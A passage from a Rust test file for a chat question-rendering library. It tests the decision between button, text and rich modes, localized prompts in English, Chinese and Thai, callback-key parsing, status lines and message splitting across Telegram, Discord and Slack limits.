//! Rendering: the decision table, the text prompt in every locale, the
//! neutral view, callback payloads, status lines and message splitting.

use askbridge_core::model::{
    Ask, ChannelKind, Choice, Context, Place, Question, QuestionKind, Unset,
};
use askbridge_core::render::{
    Block, MAX_CONTEXT_MESSAGES, context_blocks, shown_whole_in_every_chat,
};
use askbridge_core::render::{
    Button, ButtonStyle, ButtonsView, CallbackRef, Capabilities, EndState, Locale, Mode, OptionRef,
    RichView, Step, StepInput, TextView, Unit, View, callback_key, decide, parse_callback_key,
    rich_step, split_message, status_line, text_prompt, view, where_answer,
};
use proptest::prelude::*;

// ---------------------------------------------------------------------------
// Builders

fn opt(label: &str) -> Choice {
    Choice {
        label: label.to_owned(),
        description: None,
        value: None,
        recommended: askbridge_core::model::has_recommended_marker(label),
        prompt: None,
    }
}

fn opt_desc(label: &str, description: &str) -> Choice {
    Choice {
        description: Some(description.to_owned()),
        ..opt(label)
    }
}

fn question(
    id: &str,
    header: &str,
    text: &str,
    kind: QuestionKind,
    options: Vec<Choice>,
) -> Question {
    Question {
        id: id.to_owned(),
        header: header.to_owned(),
        text: text.to_owned(),
        kind,
        options,
        default: None,
        placeholder: None,
        required: true,
        letters: false,
    }
}

fn single(id: &str, header: &str, text: &str, options: Vec<Choice>) -> Question {
    question(id, header, text, QuestionKind::Single, options)
}

fn multi(id: &str, header: &str, text: &str, options: Vec<Choice>) -> Question {
    question(id, header, text, QuestionKind::Multi, options)
}

fn text_q(id: &str, header: &str, text: &str) -> Question {
    question(id, header, text, QuestionKind::Text, Vec::new())
}

fn textarea(id: &str, header: &str, text: &str) -> Question {
    question(id, header, text, QuestionKind::Textarea, Vec::new())
}

fn confirm(id: &str, header: &str, text: &str) -> Question {
    question(id, header, text, QuestionKind::Confirm, Vec::new())
}

fn optional(q: Question) -> Question {
    Question {
        required: false,
        ..q
    }
}

fn with_default(q: Question, default: &[&str]) -> Question {
    Question {
        default: Some(default.iter().map(|d| (*d).to_owned()).collect()),
        ..q
    }
}

fn with_placeholder(q: Question, placeholder: &str) -> Question {
    Question {
        placeholder: Some(placeholder.to_owned()),
        ..q
    }
}

fn lettered(q: Question) -> Question {
    Question { letters: true, ..q }
}

fn ask(title: Option<&str>, questions: Vec<Question>) -> Ask {
    Ask {
        title: title.map(str::to_owned),
        context: None,
        thread: None,
        questions,
        timeout_seconds: 900,
        target: None,
        also: Vec::new(),
        escalate: Vec::new(),
        remind: None,
        callback: None,
        approval: false,
        unset: Unset::default(),
    }
}

fn numbered_options(count: usize) -> Vec<Choice> {
    (1..=count).map(|i| opt(&format!("Option {i}"))).collect()
}

// ---------------------------------------------------------------------------
// Asks used across tests

fn deploy_question() -> Question {
    single(
        "deploy_target",
        "Deploy",
        "Where should I deploy the build?",
        vec![
            opt_desc("Staging (Recommended)", "safe, reversible"),
            opt("Production"),
        ],
    )
}

fn notify_question() -> Question {
    multi(
        "notify",
        "Notify",
        "Who should be told?",
        vec![opt("Team channel"), opt("On-call"), opt("Nobody")],
    )
}

/// The two-question example ask.
fn release() -> Ask {
    ask(
        Some("Release 2.4"),
        vec![deploy_question(), notify_question()],
    )
}

fn single_deploy() -> Ask {
    ask(Some("Release 2.4"), vec![deploy_question()])
}

fn single_no_title() -> Ask {
    let mut postgres = opt("Postgres");
    postgres.recommended = true;
    ask(
        None,
        vec![single(
            "database",
            "Database",
            "Which database should the service use?",
            vec![postgres, opt("SQLite"), opt("MySQL")],
        )],
    )
}

fn multi_only() -> Ask {
    ask(Some("Release 2.4"), vec![notify_question()])
}

fn text_only() -> Ask {
    ask(
        Some("Release 2.4"),
        vec![with_placeholder(
            text_q(
                "version",
                "Version",
                "Which version number should the release get?",
            ),
            "e.g. v2.4.1",
        )],
    )
}

fn textarea_only() -> Ask {
    ask(
        None,
        vec![optional(textarea(
            "notes",
            "Notes",
            "Anything the release notes should mention?",
        ))],
    )
}

fn confirm_only() -> Ask {
    ask(
        Some("Release 2.4"),
        vec![with_default(
            confirm("ship", "Ship", "Ship it now?"),
            &["yes"],
        )],
    )
}

fn letters_only() -> Ask {
    ask(
        None,
        vec![lettered(single(
            "agent_choice",
            "",
            "The tests fail on the old parser. Which approach should I take?",
            vec![
                opt_desc("Refactor first", "cleaner, takes a day"),
                opt("Patch now"),
                opt("Rewrite the parser"),
            ],
        ))],
    )
}

fn onboarding() -> Ask {
    ask(
        Some("Onboarding"),
        vec![
            with_placeholder(text_q("name", "Name", "What should I call you?"), "Alex"),
            optional(with_default(
                single(
                    "editor",
                    "Editor",
                    "Which editor do you use?",
                    vec![opt("VS Code (Recommended)"), opt("Vim"), opt("Emacs")],
                ),
                &["VS Code (Recommended)"],
            )),
            optional(with_default(
                confirm("newsletter", "Newsletter", "Subscribe to the newsletter?"),
                &["no"],
            )),
            lettered(with_default(
                multi(
                    "topics",
                    "Topics",
                    "Which topics interest you?",
                    vec![opt("Rust"), opt("Go")],
                ),
                &["Rust", "Go"],
            )),
            textarea("bio", "Bio", "Tell me about yourself."),
        ],
    )
}

fn all_text() -> Ask {
    ask(
        None,
        vec![
            text_q("city", "City", "Which city are you in?"),
            text_q("team", "", "Which team are you on?"),
        ],
    )
}

// ---------------------------------------------------------------------------
// Text prompt

const EXAMPLE_PROMPT: &str = r#"Release 2.4 — 2 questions. Answer each on its own line, like "Q1: 2".

Q1 Deploy — Where should I deploy the build?
  1. Staging ⭐ — safe, reversible
  2. Production
Q2 Notify — Who should be told? (choose any: e.g. 1, 3)
  1. Team channel
  2. On-call
  3. Nobody

Reply with numbers or option text, or write your own answer. Reply "skip" to skip."#;

#[test]
fn text_prompt_reproduces_spec_example() {
    assert_eq!(text_prompt(&release(), Locale::En), EXAMPLE_PROMPT);
}

#[test]
fn recommended_flag_and_marker_show_one_star() {
    let mut flagged = release();
    flagged.questions[0].options[0].recommended = true;
    assert_eq!(text_prompt(&flagged, Locale::En), EXAMPLE_PROMPT);
    let mut marker_only = release();
    marker_only.questions[0].options[0].recommended = false;
    assert_eq!(text_prompt(&marker_only, Locale::En), EXAMPLE_PROMPT);
}

#[test]
fn text_prompt_snapshots() {
    let asks: [(&str, Ask); 10] = [
        ("release", release()),
        ("single_deploy", single_deploy()),
        ("single_no_title", single_no_title()),
        ("multi_only", multi_only()),
        ("text_only", text_only()),
        ("textarea_only", textarea_only()),
        ("confirm_only", confirm_only()),
        ("letters_only", letters_only()),
        ("onboarding", onboarding()),
        ("all_text", all_text()),
    ];
    for (name, ask) in &asks {
        for locale in Locale::ALL {
            let snapshot = format!("prompt_{name}_{}", locale.as_str());
            insta::assert_snapshot!(snapshot, text_prompt(ask, locale));
        }
    }
}

#[test]
fn skip_words_in_prompts_are_resolver_words() {
    let table = [
        (Locale::En, "\"skip\""),
        (Locale::ZhCn, "“跳过”"),
        (Locale::Th, "“ข้าม”"),
    ];
    for (locale, word) in table {
        assert!(text_prompt(&release(), locale).contains(word), "{locale}");
    }
}

// ---------------------------------------------------------------------------
// Decision table

#[test]
fn decide_table() {
    let rich = |caps: Capabilities| caps.with_mode(Mode::Rich);
    let one = |q: Question| ask(None, vec![q]);
    let table: Vec<(&str, Ask, Capabilities, Mode)> = vec![
        (
            "single on telegram",
            single_deploy(),
            Capabilities::TELEGRAM,
            Mode::Buttons,
        ),
        (
            "single on discord",
            single_deploy(),
            Capabilities::DISCORD,
            Mode::Buttons,
        ),
        (
            "single on slack",
            single_deploy(),
            Capabilities::SLACK,
            Mode::Buttons,
        ),
        (
            "single on web",
            single_deploy(),
            Capabilities::WEB,
            Mode::Buttons,
        ),
        (
            "single on plain text",
            single_deploy(),
            Capabilities::TEXT,
            Mode::Text,
        ),
        (
            "single, render forced to text",
            single_deploy(),
            Capabilities::TELEGRAM.with_mode(Mode::Text),
            Mode::Text,
        ),
        (
            "single, rich on",
            single_deploy(),
            rich(Capabilities::TELEGRAM),
            Mode::Buttons,
        ),
        (
            "confirm on slack",
            confirm_only(),
            Capabilities::SLACK,
            Mode::Buttons,
        ),
        (
            "confirm on plain text",
            confirm_only(),
            Capabilities::TEXT,
            Mode::Text,
        ),
        (
            "multi-question",
            release(),
            Capabilities::TELEGRAM,
            Mode::Text,
        ),
        (
            "multi-question, rich",
            release(),
            rich(Capabilities::DISCORD),
            Mode::Rich,
        ),
        (
            "multi-question, rich then text",
            release(),
            rich(Capabilities::DISCORD).with_mode(Mode::Text),
            Mode::Text,
        ),
        (
            "one multi-select",
            multi_only(),
            Capabilities::TELEGRAM,
            Mode::Text,
        ),
        (
            "one multi-select, rich",
            multi_only(),
            rich(Capabilities::TELEGRAM),
            Mode::Rich,
        ),
        (
            "one text question",
            text_only(),
            Capabilities::TELEGRAM,
            Mode::Text,
        ),
        (
            "one text question, rich",
            text_only(),
            rich(Capabilities::SLACK),
            Mode::Rich,
        ),
        (
            "one textarea, rich",
            textarea_only(),
            rich(Capabilities::DISCORD),
            Mode::Rich,
        ),
        (
            "rich on plain text",
            release(),
            rich(Capabilities::TEXT),
            Mode::Text,
        ),
        (
            "five questions, rich",
            onboarding(),
            rich(Capabilities::TELEGRAM),
            Mode::Rich,
        ),
        (
            "no question",
            ask(None, Vec::new()),
            Capabilities::TELEGRAM,
            Mode::Text,
        ),
        (
            "no question, rich",
            ask(None, Vec::new()),
            rich(Capabilities::TELEGRAM),
            Mode::Text,
        ),
        (
            "single without options",
            one(single("x", "X", "X?", Vec::new())),
            Capabilities::TELEGRAM,
            Mode::Text,
        ),
        (
            "20 options fit discord (4 rows + controls)",
            one(single("x", "X", "X?", numbered_options(20))),
            Capabilities::DISCORD,
            Mode::Buttons,
        ),
        (
            "21 options do not fit discord's 5 rows",
            one(single("x", "X", "X?", numbered_options(21))),
            Capabilities::DISCORD,
            Mode::Text,
        ),
        (
            "21 options, rich discord: the step does not fit either",
            one(single("x", "X", "X?", numbered_options(21))),
            rich(Capabilities::DISCORD),
            Mode::Text,
        ),
        (
            "23 options fit slack's 25 buttons",
            one(single("x", "X", "X?", numbered_options(23))),
            Capabilities::SLACK,
            Mode::Buttons,
        ),
        (
            "24 options and Other and Skip exceed slack's 25",
            one(single("x", "X", "X?", numbered_options(24))),
            Capabilities::SLACK,
            Mode::Text,
        ),
        (
            "25 options fit telegram",
            one(single("x", "X", "X?", numbered_options(25))),
            Capabilities::TELEGRAM,
            Mode::Buttons,
        ),
        (
            "22 multi-select toggles are one select menu on rich discord",
            one(multi("x", "X", "X?", numbered_options(22))),
            rich(Capabilities::DISCORD),
            Mode::Rich,
        ),
        (
            "25 multi-select options fill discord's select menu",
            one(multi("x", "X", "X?", numbered_options(25))),
            rich(Capabilities::DISCORD),
            Mode::Rich,
        ),
        (
            "25 multi-select options are one menu on rich slack",
            one(multi("x", "X", "X?", numbered_options(25))),
            rich(Capabilities::SLACK),
            Mode::Rich,
        ),
        (
            "as toggle buttons, 22 options + Done/Other/Skip exceed discord",
            one(multi("x", "X", "X?", numbered_options(22))),
            rich(Capabilities {
                menu_options: 0,
                ..Capabilities::DISCORD
            }),
            Mode::Text,
        ),
        (
            "more options than the menu holds are toggle buttons",
            one(multi("x", "X", "X?", numbered_options(22))),
            rich(Capabilities {
                menu_options: 21,
                ..Capabilities::DISCORD
            }),
            Mode::Text,
        ),
        (
            "multi-select with 20 options fits rich discord",
            one(multi("x", "X", "X?", numbered_options(20))),
            rich(Capabilities::DISCORD),
            Mode::Rich,
        ),
        (
            "one question too big makes the whole stepper text",
            ask(
                None,
                vec![
                    deploy_question(),
                    single("x", "X", "X?", numbered_options(22)),
                ],
            ),
            rich(Capabilities::DISCORD),
            Mode::Text,
        ),
    ];
    for (name, ask, caps, expect) in table {
        assert_eq!(decide(&ask, &caps), expect, "{name}");
        assert_eq!(
            view(&ask, "k", &caps, Locale::En).mode(),
            expect,
            "{name}: view"
        );
    }
}

#[test]
fn mode_settings() {
    for mode in [Mode::Buttons, Mode::Text, Mode::Rich] {
        assert_eq!(Mode::parse(mode.as_str()), Some(mode));
    }
    assert_eq!(Mode::parse(" Rich "), Some(Mode::Rich));
    assert_eq!(Mode::parse("fancy"), None);
}

// ---------------------------------------------------------------------------
// Views

/// Draws a view as text, destructuring it exhaustively the way an adapter
/// does, so a new field breaks this test's build too.
fn show(view: &View) -> String {
    let mut out = String::new();
    match view {
        View::Buttons(ButtonsView { parts, rows }) => {
            out.push_str("mode: buttons\n");
            show_parts(&mut out, parts);
            show_rows(&mut out, rows);
        }
        View::Text(TextView { parts }) => {
            out.push_str("mode: text\n");
            show_parts(&mut out, parts);
        }
        View::Rich(RichView { steps }) => {
            out.push_str("mode: rich\n");
            for step in steps {
                show_step(&mut out, step);
            }
        }
    }
    out
}

fn show_step(out: &mut String, step: &Step) {
    let Step {
        question,
        position,
        total,
        text,
        input,
        rows,
    } = step;
    out.push_str(&format!(
        "=== step {position}/{total} (question {question}) ===\n"
    ));
    let input = match input {
        StepInput::Pick => "pick".to_owned(),
        StepInput::Toggle { selected, .. } => format!("toggle, selected {selected:?}"),
        StepInput::Text {
            multiline,
            label,
            placeholder,
        } => format!("text, multiline {multiline}, label {label:?}, placeholder {placeholder:?}"),
    };
    out.push_str(&format!("input: {input}\n"));
    out.push_str(text);
    out.push('\n');
    show_rows(out, rows);
}

fn show_parts(out: &mut String, parts: &[String]) {
    for (index, part) in parts.iter().enumerate() {
        out.push_str(&format!(
            "--- part {} ({} chars) ---\n",
            index + 1,
            Unit::Utf16.len(part)
        ));
        out.push_str(part);
        out.push('\n');
    }
}

fn show_rows(out: &mut String, rows: &[Vec<Button>]) {
    out.push_str("--- buttons ---\n");
    for row in rows {
        let drawn: Vec<String> = row
            .iter()
            .map(
                |Button {
                     key,
                     action,
                     label,
                     style,
                 }| {
                    let style = match style {
                        ButtonStyle::Primary => "primary",
                        ButtonStyle::Normal => "normal",
                        ButtonStyle::Secondary => "secondary",
                    };
                    assert_eq!(
                        parse_callback_key(key).map(|parsed| parsed.option),
                        Some(*action),
                        "{key}"
                    );
                    format!("[{label}] {style} {key}")
                },
            )
            .collect();
        out.push_str(&drawn.join(" | "));
        out.push('\n');
    }
}

#[test]
fn view_snapshots() {
    let rich = |caps: Capabilities| caps.with_mode(Mode::Rich);
    let long_labels = ask(
        Some("Migration"),
        vec![single(
            "plan",
            "Plan",
            "How should I migrate the orders table?",
            vec![
                opt("Copy the table in batches of ten thousand rows overnight"),
                opt(
                    "Lock the table and migrate it in one transaction during the maintenance window (Recommended)",
                ),
            ],
        )],
    );
    let cases: Vec<(&str, Ask, Capabilities, Locale)> = vec![
        (
            "single_telegram_en",
            single_deploy(),
            Capabilities::TELEGRAM,
            Locale::En,
        ),
        (
            "single_discord_zh",
            single_no_title(),
            Capabilities::DISCORD,
            Locale::ZhCn,
        ),
        (
            "confirm_slack_th",
            confirm_only(),
            Capabilities::SLACK,
            Locale::Th,
        ),
        (
            "letters_telegram_en",
            letters_only(),
            Capabilities::TELEGRAM,
            Locale::En,
        ),
        (
            "long_labels_slack_en",
            long_labels,
            Capabilities::SLACK,
            Locale::En,
        ),
        (
            "release_telegram_en",
            release(),
            Capabilities::TELEGRAM,
            Locale::En,
        ),
        (
            "release_small_limit_en",
            release(),
            Capabilities {
                max_text_len: 160,
                ..Capabilities::TEXT
            },
            Locale::En,
        ),
        (
            "release_rich_discord_en",
            release(),
            rich(Capabilities::DISCORD),
            Locale::En,
        ),
        (
            "onboarding_rich_telegram_th",
            onboarding(),
            rich(Capabilities::TELEGRAM),
            Locale::Th,
        ),
        (
            "textarea_rich_slack_zh",
            textarea_only(),
            rich(Capabilities::SLACK),
            Locale::ZhCn,
        ),
    ];
    for (name, ask, caps, locale) in &cases {
        insta::assert_snapshot!(
            format!("view_{name}"),
            show(&view(ask, "k7Qx2", caps, *locale))
        );
    }
}

#[test]
fn rich_step_redraws_toggles() {
    // Toggle buttons, as on a channel without menus.
    let caps = Capabilities {
        menu_options: 0,
        ..Capabilities::DISCORD
    }
    .with_mode(Mode::Rich);
    let step = rich_step(&release(), "k7Qx2", 1, &[2, 0, 0, 9], &caps, Locale::En);
    let mut out = String::new();
    if let Some(step) = &step {
        show_step(&mut out, step);
    }
    insta::assert_snapshot!("rich_step_toggled_en", out);
    assert_eq!(rich_step(&release(), "k", 2, &[], &caps, Locale::En), None);
}

#[test]
fn rich_multi_step_lists_its_options_unmarked_for_select_menus() {
    let mut notify = notify_question();
    notify.options[1].recommended = true;
    notify.options[2].description = Some("  nobody\nat all ".to_owned());
    let caps = Capabilities::SLACK.with_mode(Mode::Rich);
    let step = rich_step(&ask(None, vec![notify]), "k", 0, &[1], &caps, Locale::En);
    let Some(StepInput::Toggle { selected, options }) = step.map(|step| step.input) else {
        panic!("a multi-select step toggles");
    };
    assert_eq!(selected, vec![1]);
    let shown: Vec<(usize, &str, Option<&str>, bool)> = options
        .iter()
        .map(|o| {
            (
                o.index,
                o.label.as_str(),
                o.description.as_deref(),
                o.recommended,
            )
        })
        .collect();
    assert_eq!(
        shown,
        vec![
            (0, "Team channel", None, false),
            (1, "On-call ⭐", None, true),
            (2, "Nobody", Some("nobody at all"), false),
        ]
    );
}

// ---------------------------------------------------------------------------
// Callback payloads

#[test]
fn callback_keys_round_trip_within_64_bytes() {
    let alphabet: Vec<char> = ('a'..='z')
        .chain('A'..='Z')
        .chain('0'..='9')
        .chain(['_', '-'])
        .collect();
    let mut options: Vec<OptionRef> = (0..25).map(OptionRef::Index).collect();
    options.extend([
        OptionRef::Other,
        OptionRef::Skip,
        OptionRef::Done,
        OptionRef::Pass,
    ]);
    for length in (1..=22).chain([48]) {
        let ask_key: String = (0..length)
            .map(|i| alphabet[(i * 7 + length) % alphabet.len()])
            .collect();
        for question in 0..12 {
            for &option in &options {
                let key = callback_key(&ask_key, question, option);
                assert!(key.len() <= 64, "{key} is {} bytes", key.len());
                assert_eq!(
                    parse_callback_key(&key),
                    Some(CallbackRef {
                        ask_key: ask_key.clone(),
                        question,
                        option
                    }),
                    "{key}"
                );
            }
        }
    }
}

#[test]
fn callback_keys_table() {
    let check = |payload: &str, expect: Option<(&str, usize, OptionRef)>| {
        let expect = expect.map(|(ask_key, question, option)| CallbackRef {
            ask_key: ask_key.to_owned(),
            question,
            option,
        });
        assert_eq!(parse_callback_key(payload), expect, "{payload:?}");
    };
    assert_eq!(
        callback_key("k7Qx2", 0, OptionRef::Index(1)),
        "ab1:k7Qx2:0:1"
    );
    assert_eq!(callback_key("k7Qx2", 3, OptionRef::Other), "ab1:k7Qx2:3:o");
    check("ab1:k7Qx2:0:1", Some(("k7Qx2", 0, OptionRef::Index(1))));
    check("ab1:k7Qx2:11:24", Some(("k7Qx2", 11, OptionRef::Index(24))));
    check("ab1:k:0:o", Some(("k", 0, OptionRef::Other)));
    check("ab1:k:0:s", Some(("k", 0, OptionRef::Skip)));
    check("ab1:k:2:d", Some(("k", 2, OptionRef::Done)));
    check("ab1:k:2:p", Some(("k", 2, OptionRef::Pass)));
    check("ab1:a:b:1:2", Some(("a:b", 1, OptionRef::Index(2))));
    check("", None);
    check("ab1:", None);
    check("ab1::0:0", None);
    check("ab1:k:0", None);
    check("ab1:k:0:x", None);
    check("ab1:k:-1:0", None);
    check("ab1:k:0:+1", None);
    check("ab1:k:0:", None);
    check("ab1:k:00000:0", None);
    check("xx1:k:0:0", None);
    check("AB1:k:0:0", None);
}

// ---------------------------------------------------------------------------
// Status lines

#[test]
fn status_lines() {
    let answered = EndState::Answered {
        summary: "Staging",
        by: Some("Alice"),
        elsewhere: None,
    };
    let anonymous = EndState::Answered {
        summary: "Staging",
        by: None,
        elsewhere: None,
    };
    let no_summary = EndState::Answered {
        summary: " ",
        by: Some("Alice"),
        elsewhere: None,
    };
    let table: [(EndState<'_>, [&str; 3]); 10] = [
        (
            answered,
            [
                "✅ Staging — answered by Alice",
                "✅ Staging — 由 Alice 回答",
                "✅ Staging — ตอบโดย Alice",
            ],
        ),
        (anonymous, ["✅ Staging", "✅ Staging", "✅ Staging"]),
        (
            no_summary,
            [
                "✅ Answered by Alice",
                "✅ 由 Alice 回答",
                "✅ ตอบโดย Alice",
            ],
        ),
        (
            EndState::Answered {
                summary: "",
                by: Some(""),
                elsewhere: None,
            },
            ["✅ Answered", "✅ 已回答", "✅ ตอบแล้ว"],
        ),
        (
            EndState::AnsweredInHost {
                summary: "Production",
            },
            [
                "✅ Production — answered in the terminal",
                "✅ Production — 已在终端中回答",
                "✅ Production — ตอบในเทอร์มินัลแล้ว",
            ],
        ),
        (
            EndState::AnsweredInHost { summary: "" },
            [
                "✅ Answered in the terminal",
                "✅ 已在终端中回答",
                "✅ ตอบในเทอร์มินัลแล้ว",
            ],
        ),
        (EndState::Skipped, ["⏭ Skipped", "⏭ 已跳过", "⏭ ข้ามแล้ว"]),
        (
            EndState::Expired,
            ["⌛ Expired", "⌛ 已过期", "⌛ หมดเวลาแล้ว"],
        ),
        (
            EndState::Cancelled,
            ["✖ Cancelled", "✖ 已取消", "✖ ยกเลิกแล้ว"],
        ),
        (
            EndState::DeliveryFailed,
            ["⚠ Not delivered", "⚠ 发送失败", "⚠ ส่งไม่สำเร็จ"],
        ),
    ];
    for (end, expect) in table {
        for (locale, expect) in Locale::ALL.into_iter().zip(expect) {
            assert_eq!(status_line(&end, locale), expect, "{end:?} {locale}");
        }
    }
}

#[test]
fn status_line_stays_one_short_line() {
    let summary = "Deploy\nto staging ".repeat(100);
    let name = "A very long display name ".repeat(10);
    let line = status_line(
        &EndState::Answered {
            summary: &summary,
            by: Some(&name),
            elsewhere: None,
        },
        Locale::En,
    );
    assert!(!line.contains('\n'), "{line}");
    assert!(Unit::Utf16.len(&line) < 254, "{}", Unit::Utf16.len(&line));
    assert!(line.ends_with('…'), "{line}");
}

// ---------------------------------------------------------------------------
// Splitting

fn ink(text: &str) -> String {
    text.chars().filter(|c| !c.is_whitespace()).collect()
}

fn split_text() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        "[a-z]{1,12}",
        Just(" ".to_owned()),
        Just("\n".to_owned()),
        Just("\n\n".to_owned()),
        Just("\r\n".to_owned()),
        Just("  ".to_owned()),
        Just("\u{a0}".to_owned()),
        "[一-龥]{1,8}",
        Just("。".to_owned()),
        Just("ที่นี่".to_owned()),
        Just("เก็บ".to_owned()),
        Just("น้ำ".to_owned()),
        Just("😀".to_owned()),
        Just("👍🏽".to_owned()),
        Just("👨‍👩‍👧".to_owned()),
        Just("🇹🇭".to_owned()),
        Just("e\u{301}".to_owned()),
        Just("1️⃣".to_owned()),
        "\\PC{1,6}",
    ];
    prop::collection::vec(piece, 0..80).prop_map(|pieces| pieces.concat())
}

proptest! {
    #[test]
    fn split_message_parts_fit_and_keep_every_char(text in split_text(), max in 1usize..120) {
        let parts = split_message(&text, max, Unit::Utf16);
        for part in &parts {
            prop_assert!(!part.trim().is_empty(), "empty part in {:?}", parts);
            prop_assert!(part.chars().count() <= max, "{:?} over {}", part, max);
            if max >= 2 {
                prop_assert!(Unit::Utf16.len(part) <= max, "{:?} over {} UTF-16 units", part, max);
            }
        }
        prop_assert_eq!(ink(&parts.concat()), ink(&text));
        if Unit::Utf16.len(&text) <= max && !text.trim().is_empty() {
            prop_assert_eq!(parts, vec![text.clone()]);
        }
    }

    #[test]
    fn split_message_never_panics(text in "\\PC*", max in 0usize..10) {
        let _ = split_message(&text, max, Unit::Utf16);
    }
}

// ---------------------------------------------------------------------------
// Any ask: never panics, views respect every limit

fn any_choice() -> impl Strategy<Value = Choice> {
    (
        "\\PC{0,70}",
        proptest::option::of("[ -~\n]{0,40}"),
        any::<bool>(),
    )
        .prop_map(|(label, description, recommended)| Choice {
            label,
            description,
            value: None,
            recommended,
            prompt: None,
        })
}

fn any_question() -> impl Strategy<Value = Question> {
    let kind = prop_oneof![
        Just(QuestionKind::Single),
        Just(QuestionKind::Multi),
        Just(QuestionKind::Text),
        Just(QuestionKind::Textarea),
        Just(QuestionKind::Confirm),
    ];
    (
        (
            "[a-z_]{1,10}",
            "\\PC{0,14}",
            "(\\PC|\n){0,300}",
            kind,
            prop::collection::vec(any_choice(), 0..27),
        ),
        (
            proptest::option::of(prop::collection::vec("\\PC{0,20}", 0..4)),
            proptest::option::of("\\PC{0,80}"),
            any::<bool>(),
            any::<bool>(),
        ),
    )
        .prop_map(
            |((id, header, text, kind, options), (default, placeholder, required, letters))| {
                Question {
                    id,
                    header,
                    text,
                    kind,
                    options,
                    default,
                    placeholder,
                    required,
                    letters,
                }
            },
        )
}

fn any_ask() -> impl Strategy<Value = Ask> {
    (
        proptest::option::of("\\PC{0,40}"),
        prop::collection::vec(any_question(), 0..13),
    )
        .prop_map(|(title, questions)| ask(title.as_deref(), questions))
}

fn check_rows(rows: &[Vec<Button>], caps: &Capabilities) -> Result<(), TestCaseError> {
    prop_assert!(rows.len() <= caps.max_rows);
    prop_assert!(rows.iter().map(Vec::len).sum::<usize>() <= caps.max_buttons);
    for row in rows {
        prop_assert!(!row.is_empty() && row.len() <= caps.max_buttons_per_row);
        for button in row {
            prop_assert!(button.key.len() <= 64);
            prop_assert!(Unit::Utf16.len(&button.label) <= caps.max_button_label_chars);
            prop_assert!(!button.label.trim().is_empty());
        }
    }
    Ok(())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(128))]

    #[test]
    fn any_ask_renders_within_limits(ask in any_ask()) {
        let all_caps = [
            Capabilities::TELEGRAM,
            Capabilities::DISCORD,
            Capabilities::SLACK,
            Capabilities::WEB,
            Capabilities::TEXT,
            Capabilities::TELEGRAM.with_mode(Mode::Rich),
            Capabilities::DISCORD.with_mode(Mode::Rich),
            Capabilities::SLACK.with_mode(Mode::Rich),
            Capabilities::MATRIX,
            Capabilities::MATRIX.with_mode(Mode::Rich),
        ];
        for locale in Locale::ALL {
            let prompt = text_prompt(&ask, locale);
            prop_assert!(!prompt.trim().is_empty());
            prop_assert_eq!(&prompt, &text_prompt(&ask, locale), "deterministic");
            for caps in &all_caps {
                match view(&ask, "01JF8ZQK3M4N5P6R7S8T9V", caps, locale) {
                    View::Text(TextView { parts }) => {
                        prop_assert!(!parts.is_empty());
                        for part in &parts {
                            prop_assert!(caps.unit.len(part) <= caps.max_text_len);
                        }
                    }
                    View::Buttons(ButtonsView { parts, rows }) => {
                        prop_assert!(!parts.is_empty());
                        for part in &parts {
                            prop_assert!(caps.unit.len(part) <= caps.max_text_len);
                        }
                        check_rows(&rows, caps)?;
                    }
                    View::Rich(RichView { steps }) => {
                        prop_assert_eq!(steps.len(), ask.questions.len());
                        for step in &steps {
                            prop_assert!(caps.unit.len(&step.text) <= caps.max_text_len);
                            check_rows(&step.rows, caps)?;
                        }
                    }
                }
            }
        }
    }
}

// ---------------------------------------------------------------------
// Follow-ups on chat channels: re-ask, clarify, closing line
// ---------------------------------------------------------------------

mod follow_ups {
    use askbridge_core::lifecycle::{AskLifecycle, Clarify, Input, Step, UnknownItems};
    use askbridge_core::model::{ChannelKind, Responder, Timestamp};
    use askbridge_core::render::{
        Locale, clarify_prompt, closing_line, reask_prompt, unknown_items_prompt,
    };
    use askbridge_core::resolve::OptionMatcher;

    use super::{ask, multi, opt, release, single};

    fn alice() -> Responder {
        Responder {
            channel: ChannelKind::Telegram,
            user_id: "42".to_owned(),
            name: Some("Alice".to_owned()),
            place: None,
        }
    }

    fn reply(lifecycle: &mut AskLifecycle, text: &str) -> Step {
        lifecycle.handle(
            Input::Reply {
                from: alice(),
                admitted: true,
                text: text.to_owned(),
                unknown_items: UnknownItems::OwnWords,
            },
            Timestamp::from_secs(10),
        )
    }

    #[test]
    fn render_reask_keeps_the_question_numbers_and_only_the_open_questions() {
        let text = reask_prompt(&release(), &[1], Locale::En);
        assert!(text.starts_with("Got it. Still open:\n\nQ2 "), "{text}");
        assert!(!text.contains("Q1"), "{text}");
        assert!(text.ends_with("Reply \"skip\" to skip."), "{text}");
        let zh = reask_prompt(&release(), &[1], Locale::ZhCn);
        assert!(zh.starts_with("收到。还有这些问题："), "{zh}");
    }

    #[test]
    fn render_clarify_names_the_candidates_with_their_numbers() {
        let one = ask(
            None,
            vec![single(
                "region",
                "Region",
                "Which region?",
                vec![
                    opt("Staging EU"),
                    opt("Staging US (Recommended)"),
                    opt("Prod"),
                ],
            )],
        );
        let text = clarify_prompt(
            &one,
            &[Clarify {
                question: 0,
                options: vec![0, 1],
                candidates: vec![
                    "Staging EU".to_owned(),
                    "Staging US (Recommended)".to_owned(),
                ],
            }],
            Locale::En,
        );
        assert_eq!(
            text,
            "Which did you mean for “Region”: 1. Staging EU / 2. Staging US? Reply with the number."
        );
    }

    #[test]
    fn render_unknown_items_asks_about_the_items_that_named_nothing() {
        let checks = ask(
            None,
            vec![multi(
                "checks",
                "Checks",
                "Which checks should run?",
                vec![opt("Lint"), opt("Test"), opt("Build")],
            )],
        );
        let matcher = OptionMatcher::for_question(&checks.questions[0]);
        let items = matcher.unknown_items("lint, Deploy.");
        assert_eq!(items, ["Deploy"]);
        let rows = [
            (
                Locale::En,
                "I didn't understand \"Deploy\" for “Checks” — reply with option numbers or names, or write your own answer.",
            ),
            (
                Locale::ZhCn,
                "“Checks”的回答里有没看懂的内容：“Deploy”。请回复选项编号或名称，也可以直接写下你的答案。",
            ),
            (
                Locale::Th,
                "ไม่เข้าใจ “Deploy” ในคำตอบของ “Checks” ตอบเป็นหมายเลขหรือชื่อตัวเลือก หรือพิมพ์คำตอบของคุณเอง",
            ),
        ];
        for (locale, expect) in rows {
            assert_eq!(unknown_items_prompt(&checks, 0, &items, locale), expect);
        }
        let two = vec!["deploy".to_owned(), "ship it".to_owned()];
        let several = release();
        assert_eq!(
            unknown_items_prompt(&several, 1, &two, Locale::En),
            "I didn't understand \"deploy\", \"ship it\" for “Q2 Notify” — reply with option numbers or names, or write your own answer."
        );
        assert_eq!(unknown_items_prompt(&checks, 0, &[], Locale::En), "");
